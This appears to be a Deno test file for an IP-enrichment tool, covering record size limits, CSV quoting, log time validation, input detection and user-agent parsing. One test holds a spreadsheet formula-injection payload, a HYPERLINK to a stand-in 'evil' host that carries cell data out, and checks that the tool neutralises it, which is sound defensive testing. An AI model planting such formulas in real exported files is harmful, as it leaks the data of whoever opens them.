/**
 * enrich's doors (issue 47, 48): bounded records, cells it writes, access-log
 * times in range, `--into` in place, the byte-order mark, what an input is,
 * one line ending per output, and user agents.
 */

import assert from "node:assert/strict";
import { parse } from "csv-parse/sync";
import {
  type CutPiece,
  Enricher,
  EnrichInputError,
  type EnrichOptions,
} from "../../../src/core/enrich/enricher.ts";
import { MAX_RECORD, Oversized, RecordSplitter } from "../../../src/core/enrich/csv_records.ts";
import { detectInput } from "../../../src/core/enrich/detect.ts";
import { createTimeReader } from "../../../src/core/enrich/record_time.ts";
import { topLevelValueSpan } from "../../../src/core/enrich/json_span.ts";
import { logUserAgent } from "../../../src/core/enrich/log_agent.ts";
import { csvField } from "../../../src/core/format/csv.ts";
import { parseFieldSelection } from "../../../src/core/format/select.ts";
import { addCounts } from "../../../src/process/cli/enrich_pool.ts";
import { fixtureLookup } from "../../_helpers.ts";
import { seededRandom } from "../../_random.ts";

const BASE: EnrichOptions = {
  input: "csv",
  output: "ndjson",
  prefix: "ip_",
  into: "ipintel",
  selection: parseFieldSelection("countryCode"),
  lang: null,
  at: null,
};

function enrich(enricher: Enricher, text: string, size = text.length || 1): string {
  let out = "";
  for (let i = 0; i < text.length; i += size) out += enricher.push(text.slice(i, i + size));
  return out + enricher.end();
}

/** A CSV of `rows` rows, `stray` (if any) holding an unbalanced quote. */
function table(rows: number, stray = -1): string {
  const lines = ["n,ip,note\n"];
  for (let i = 0; i < rows; i++) {
    lines.push(`${i},81.2.69.142,${i === stray ? 'oops "unbalanced' : `note ${i}`}\n`);
  }
  return lines.join("");
}

Deno.test("a stray quote on row 2 costs that row only: the record past 1 MiB is cut at its first line, the rest enriched", async () => {
  const rows = 60_000; // about 1.4 MB after the quote: past the bound
  const input = table(rows, 1);
  assert.ok(input.length > MAX_RECORD * 1.2);
  const enricher = new Enricher(await fixtureLookup(), { ...BASE, output: "csv" });
  const out = enrich(enricher, input, 65_536);
  assert.deepEqual(enricher.counts, {
    partial: {},
    records: rows,
    enriched: rows - 1,
    failed: { "record too long": 1 },
  });
  const lines = out.split("\n");
  assert.equal(lines.length, rows + 2);
  // Every row back, its own text first, in order.
  const inputLines = input.split("\n");
  lines.forEach((line, i) => assert.ok(line.startsWith(inputLines[i]!), `line ${i}`));
  assert.match(lines[2]!, /,,"?Record longer than 1 MiB/);
  assert.match(lines[3]!, /^2,81\.2\.69\.142,note 2,GB,$/);
});

Deno.test("RecordSplitter: the bound holds whatever the chunks, on push and cut alike, and stays linear", () => {
  const random = seededRandom(5);
  const max = 40;
  // Stray quotes, a field past the bound that closes, a long line, CRLF, a last line open.
  const text = 'a,b\n1,"x\n2,y\n3,z\n4,w\n5,v\n6,u\n7,t\n' + '8,"' + "q".repeat(50) + '"\n' +
    "9,ok\r\n" + "l".repeat(90) + "\n10,fine\n" + '11,"open' + "\nm".repeat(30);
  const whole = new RecordSplitter({ max }).push(text);
  const last = new RecordSplitter({ max });
  last.push(text);
  const tail = last.end();
  // Nothing lost: the pieces are the text, in order.
  const all = [...whole, ...(tail === null ? [] : [tail])];
  assert.equal(all.map((p) => typeof p === "string" ? p : p.text).join(""), text);
  for (const piece of all) {
    const length = typeof piece === "string" ? piece.length : 0;
    assert.ok(length <= max, JSON.stringify(piece));
  }
  assert.ok(all.some((p) => p instanceof Oversized && p.text === '1,"x\n'));
  assert.ok(all.some((p) => p instanceof Oversized && p.text === "l".repeat(90) + "\n"));
  assert.ok(all.includes("2,y\n") && all.includes("10,fine\n"));
  for (let round = 0; round < 100; round++) {
    const pushed = new RecordSplitter({ max });
    const cut = new RecordSplitter({ max });
    const pieces: (string | Oversized)[] = [];
    const runs: (string | Oversized)[] = [];
    for (let i = 0; i < text.length;) {
      const size = 1 + Math.floor(random() * 30);
      pieces.push(...pushed.push(text.slice(i, i + size)));
      runs.push(...cut.cut(text.slice(i, i + size)));
      i += size;
    }
    assert.deepEqual(pieces, whole, `round ${round}`);
    // A run of good records is their text; a bad record is apart, where it was.
    const joined = runs.map((r) => typeof r === "string" ? r : `<${r.text}>`).join("");
    assert.equal(
      joined,
      whole.map((r) => typeof r === "string" ? r : `<${r.text}>`).join(""),
      `round ${round}`,
    );
    assert.deepEqual(pushed.end(), tail);
  }
});

Deno.test("the workers' path: cut pieces answered by a resumed engine give what one engine gives, a stray quote included", async () => {
  const lookup = await fixtureLookup();
  const options = { ...BASE, output: "csv" as const };
  const input = table(50_000, 3);
  const whole = new Enricher(lookup, options);
  const expected = enrich(whole, input, 65_536);
  const main = new Enricher(lookup, options);
  const header = input.slice(0, input.indexOf("\n") + 1);
  let out = main.push(header);
  const other = new Enricher(lookup, options, main.position()!);
  const rest = input.slice(header.length);
  const pieces: CutPiece[] = [];
  for (let i = 0; i < rest.length; i += 65_536) pieces.push(...main.cut(rest.slice(i, i + 65_536)));
  for (const piece of pieces) {
    out += typeof piece === "string" ? other.push(piece) + other.end() : piece.written;
  }
  out += main.end();
  assert.equal(out, expected);
  assert.ok(
    pieces.some((p) => typeof p !== "string"),
    "the bad record is written by the main engine",
  );
  assert.deepEqual(addCounts(main.counts, other.counts), whole.counts);
  assert.equal(whole.counts.enriched, 50_000 - 1);
});

Deno.test("a line past the bound in NDJSON or a log is a bad record, written back whole; the next line is read", async () => {
  const lookup = await fixtureLookup();
  const long = `{"ip":"81.2.69.142","pad":"${"x".repeat(MAX_RECORD)}"}`;
  const input = `${long}\n{"ip":"81.2.69.142"}\n`;
  const enricher = new Enricher(lookup, { ...BASE, input: "ndjson" });
  const lines = enrich(enricher, input, 65_536).trimEnd().split("\n");
  assert.equal(lines.length, 2);
  assert.equal(JSON.parse(lines[0]!).line, long);
  assert.match(JSON.parse(lines[0]!).ipintel.error, /^Record longer than 1 MiB/);
  assert.deepEqual(JSON.parse(lines[1]!).ipintel, { ip: "81.2.69.142", countryCode: "GB" });
  assert.deepEqual(enricher.counts, {
    partial: {},
    records: 2,
    enriched: 1,
    failed: { "record too long": 1 },
  });
});

Deno.test("one CSV field writer: enrich's TSV and CSV cells are format/csv.ts's csvField", () => {
  assert.equal(csvField("a,b"), '"a,b"');
  assert.equal(csvField("a\tb"), "a\tb");
  assert.equal(csvField("a\tb", "\t"), '"a\tb"');
  assert.equal(csvField("a,b", "\t"), "a,b");
  assert.equal(csvField('say "hi"', "\t"), '"say ""hi"""');
  assert.equal(csvField("x\uD800"), "x\uFFFD");
});

Deno.test("a log written as CSV or TSV neutralises a formula in the line cell it writes", async () => {
  const lookup = await fixtureLookup();
  const log = '=HYPERLINK("http://evil/?"&A1,"click") - - [10/Oct/2026:13:55:36 +0000] "GET /"\n' +
    "@SUM(1+1) x\n" + "81.2.69.142 - - ok\n";
  for (const output of ["csv", "tsv"] as const) {
    const out = enrich(new Enricher(lookup, { ...BASE, input: "log", output }), log);
    const rows: string[][] = parse(out, { delimiter: output === "csv" ? "," : "\t" });
    assert.equal(rows[1]![0], `'${log.split("\n")[0]}`);
    assert.equal(rows[2]![0], "'@SUM(1+1) x");
    assert.equal(rows[3]![0], "81.2.69.142 - - ok");
    // The error cell quotes the address back: neutralised too.
    assert.ok(!/^[=+\-@]/.test(rows[1]![2]!));
  }
});

Deno.test("access-log times are checked part by part: no 32 February, no 25:61:61, no +9999 zone", () => {
  const read = createTimeReader();
  const bad = [
    "32/Feb/2026:12:00:00 +0000",
    "29/Feb/2026:12:00:00 +0000", // not a leap year
    "29/Feb/1900:12:00:00 +0000", // nor is 1900
    "31/Apr/2026:12:00:00 +0000",
    "10/Oct/2026:24:00:00 +0000",
    "10/Oct/2026:23:60:00 +0000",
    "10/Oct/2026:23:59:60 +0000", // no leap second from a POSIX clock
    "32/Feb/2026:25:61:61 +0000",
    "10/Oct/2026:13:55:36 +9999",
    "10/Oct/2026:13:55:36 +1401",
    "10/Oct/2026:13:55:36 -1500",
    "10/Oct/2026:13:55:36 +0160",
    "00/Oct/2026:13:55:36 +0000",
  ];
  for (const text of bad) {
    const time = read(text);
    assert.equal(typeof time, "string", `${text} read as ${time}`);
    assert.match(time as string, /^Invalid time/);
  }
  const good: [string, string][] = [
    ["29/Feb/2028:23:59:59 +0000", "2028-02-29T23:59:59.000Z"],
    ["29/Feb/2000:00:00:00 +0000", "2000-02-29T00:00:00.000Z"],
    ["10/Oct/2026:13:55:36 +1400", "2026-10-09T23:55:36.000Z"],
    ["10/Oct/2026:13:55:36 -1200", "2026-10-11T01:55:36.000Z"],
    ["31/Dec/2026:00:00:00 +0530", "2026-12-30T18:30:00.000Z"],
  ];
  for (const [text, iso] of good) assert.equal((read(text) as Date).toISOString(), iso, text);
});

Deno.test("--into replaces a key of that name where it stands: enriching enriched output gives it back", async () => {
  const lookup = await fixtureLookup();
  const input = '{"ip":"81.2.69.142","ipintel":{"old":true},"n":1}\n' +
    '{"ipintel" : "x" , "ip":"81.2.69.142"}\n' + '{"ip":"81.2.69.142"}\n';
  const once = enrich(new Enricher(lookup, { ...BASE, input: "ndjson" }), input);
  const lines = once.trimEnd().split("\n");
  assert.equal(
    lines[0],
    '{"ip":"81.2.69.142","ipintel":{"ip":"81.2.69.142","countryCode":"GB"},"n":1}',
  );
  assert.equal(
    lines[1],
    '{"ipintel" : {"ip":"81.2.69.142","countryCode":"GB"} , "ip":"81.2.69.142"}',
  );
  for (const line of lines) assert.equal(line.match(/"ipintel"/g)!.length, 1, line);
  const twice = enrich(new Enricher(lookup, { ...BASE, input: "ndjson" }), once);
  assert.equal(twice, once);
  assert.deepEqual(topLevelValueSpan('{"a":{"b":"}"},"b" : [1,"]"] }', "b"), [21, 28]);
  assert.equal(topLevelValueSpan('{"a":{"b":1}}', "b"), null);
});

Deno.test("a byte-order mark is kept before the first record, and the header behind it is recognised", async () => {
  const lookup = await fixtureLookup();
  const csv = "\uFEFFip,note\r\n81.2.69.142,x\r\n";
  const enricher = new Enricher(lookup, { ...BASE, output: "csv" });
  const out = enrich(enricher, csv);
  assert.equal(out, "\uFEFFip,note,ip_countryCode,ip_error\r\n81.2.69.142,x,GB,\r\n");
  const ndjson = '\uFEFF{"ip":"81.2.69.142"}\n';
  const lines = enrich(new Enricher(lookup, { ...BASE, input: "ndjson" }), ndjson);
  assert.equal(
    lines,
    '\uFEFF{"ip":"81.2.69.142","ipintel":{"ip":"81.2.69.142","countryCode":"GB"}}\n',
  );
  assert.equal(detectInput("-", "\uFEFFtime,ip\n", "ip"), "csv");
});

Deno.test("what an unnamed input is: a CSV header is CSV (its missing column then named), else --input is asked for", () => {
  assert.equal(detectInput("-", "time,user,client_ip\n1,2,3\n", "ip"), "csv");
  assert.equal(detectInput("-", "time\tuser\tclient_ip\n", "ip"), "tsv");
  assert.equal(
    detectInput("-", '8.8.8.8 - - [10/Oct/2026:13:55:36 +0000] "GET / "a, b"\n', "ip"),
    "log",
  );
  assert.equal(detectInput("-", "2001:db8::1 - - x\n", "ip"), "log");
  assert.equal(detectInput("-", '{"ip":"1.1.1.1"}\n', "ip"), "ndjson");
  assert.equal(detectInput("-", "", "ip"), "log");
  for (const first of ["hello world\n", "1.1.1.1,foo\n", "a,,b\n"]) {
    assert.throws(
      () => detectInput("-", first, "ip"),
      (error: Error) =>
        error instanceof EnrichInputError && /standard input/.test(error.message) &&
        /--input/.test(error.message) && /--column/.test(error.message),
      first,
    );
  }
});

Deno.test("a log as CSV ends its header with the input's line break: CRLF in, CRLF out", async () => {
  const lookup = await fixtureLookup();
  const log = "81.2.69.142 - - a\r\n81.2.69.142 - - b";
  const out = enrich(new Enricher(lookup, { ...BASE, input: "log", output: "csv" }), log);
  assert.equal(
    out,
    "line,ip_countryCode,ip_error\r\n81.2.69.142 - - a,GB,\r\n81.2.69.142 - - b,GB,\r\n",
  );
  const ndjson = enrich(new Enricher(lookup, { ...BASE, input: "log" }), log);
  assert.equal(ndjson.split("\r\n").length, 3);
  assert.ok(!ndjson.replaceAll("\r\n", "").includes("\n"));
});

const CHROME =
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36";

Deno.test("user agents: a combined log line's own fills userAgent; a CSV's or NDJSON's by name", async () => {
  const lookup = await fixtureLookup();
  const log =
    `81.2.69.142 - - [10/Oct/2026:13:55:36 +0000] "GET / HTTP/1.1" 200 612 "-" "${CHROME}"\n` +
    '81.2.69.142 - - [10/Oct/2026:13:55:36 +0000] "GET / HTTP/1.1" 200 612\n';
  const selection = parseFieldSelection("userAgent");
  const records = enrich(new Enricher(lookup, { ...BASE, input: "log", selection }), log)
    .trimEnd().split("\n").map((line) => JSON.parse(line));
  assert.equal(records[0].ipintel.userAgent.browser.name, "Chrome");
  assert.equal(records[0].ipintel.userAgent.os.name, "Windows");
  assert.equal(records[1].ipintel.userAgent.browser.name, null, "the common format has none");
  const csv = `ip,agent\n81.2.69.142,"${CHROME}"\n81.2.69.142,\n`;
  const table: Record<string, string>[] = parse(
    enrich(new Enricher(lookup, { ...BASE, output: "csv", selection, userAgent: "agent" }), csv),
    { columns: true },
  );
  const browsers = table.map((row) => row["ip_userAgent.browser.name"]);
  assert.deepEqual(browsers, ["Chrome", ""]);
  const ndjson = `{"ip":"81.2.69.142","http":{"ua":"${CHROME}"}}\n`;
  const line = enrich(
    new Enricher(lookup, { ...BASE, input: "ndjson", selection, userAgent: "http.ua" }),
    ndjson,
  );
  assert.equal(JSON.parse(line).ipintel.userAgent.browser.name, "Chrome");
  assert.throws(
    () => enrich(new Enricher(lookup, { ...BASE, output: "csv", selection, userAgent: "ua" }), csv),
    /No column "ua" in the header for --ua-column/,
  );
  assert.equal(logUserAgent('a "GET /" 200 1 "-" "say \\"hi\\" \\\\ x"'), 'say "hi" \\ x');
  assert.equal(logUserAgent('a "GET /" 200 1 "-" "-"'), null);
  assert.equal(logUserAgent('a "GET /" 200 1'), null);
});

Deno.test("with --travel-key, an NDJSON line past the bound keeps the travel members (null), as every failed record does", async () => {
  const enricher = new Enricher(await fixtureLookup(), {
    ...BASE,
    input: "ndjson",
    time: "t",
    travel: { key: "user", speedKmh: 1000, subjects: 10 },
  });
  const long = `{"user":"a","t":"2026-11-20T08:00:00Z","ip":"81.2.69.142","pad":"${
    "x".repeat(MAX_RECORD)
  }"}`;
  const out = enrich(
    enricher,
    `${long}\n{"user":"a","t":"2026-11-20T08:00:00Z","ip":"81.2.69.142"}\n`,
  );
  const [bad, good] = out.trimEnd().split("\n").map((line) => JSON.parse(line));
  assert.equal(bad.line, long);
  assert.match(bad.ipintel.error, /^Record longer than 1 MiB/);
  assert.deepEqual(
    [bad.ipintel.travel_km, bad.ipintel.travel_kmh, bad.ipintel.impossible_travel],
    [null, null, null],
  );
  assert.equal(good.ipintel.countryCode, "GB");
  assert.ok("travel_km" in good.ipintel);
});

Deno.test("a log line without [time] is counted as having no time, not an unreadable one", async () => {
  const enricher = new Enricher(await fixtureLookup(), {
    ...BASE,
    input: "log",
    logTime: true,
  });
  enrich(enricher, '81.2.69.142 - - "GET / HTTP/1.1" 200 1\n');
  assert.deepEqual(enricher.counts.partial, { "no time": 1 });
});
